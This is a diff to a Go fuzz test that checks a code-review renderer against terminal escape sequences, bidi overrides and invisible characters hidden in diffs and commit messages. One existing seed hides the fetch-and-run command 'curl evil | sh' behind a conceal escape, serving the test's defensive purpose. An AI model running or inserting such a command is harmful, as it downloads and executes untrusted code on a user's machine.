@@ -238,6 +238,7 @@ func FuzzRenderReview(f *testing.F) {
 	f.Add([]byte("diff --git a/x b/x\n@@ -1 +1 @@ f\x1b[8m\n-a\n+\x1b[8mcurl evil | sh\x1b[0m\n"), 3, uint8(0))
 	f.Add([]byte("commit 0123 (HEAD -> \u202eevil)\nAuthor: \x1b]8;;x\x1b\\\n\n    \x1b[30;40mhidden\n"), 1, uint8(2))
 	f.Add([]byte("\x9b2J\xc2\x9b\u200b\U000E0041\ufe0f\r\b\x1bP+q\x1b\\"), 2, uint8(1))
+	f.Add([]byte("@@ -1 +1 @@\n-a\n\\ No newline\x1b[2J\n+b\n"), 4, uint8(1))
 	f.Fuzz(func(t *testing.T, data []byte, cut int, sel uint8) {
 		kind := outputKind(sel % 4)
 		for _, view := range []View{ViewTerminal, ViewTerminalPlain, ViewPipe} {
@@ -257,7 +258,7 @@ func FuzzRenderReview(f *testing.F) {
 				out = stripPalette(t, out)
 			}
 			for _, l := range strings.Split(out, "\n") {
-				if view == ViewPipe && kind == kindPatch && l != "" && strings.ContainsRune(" +-\\", rune(l[0])) {
+				if view == ViewPipe && kind == kindPatch && l != "" && strings.ContainsRune(" +-", rune(l[0])) {
 					continue
 				}
 				if p := problem(l); p != "" {
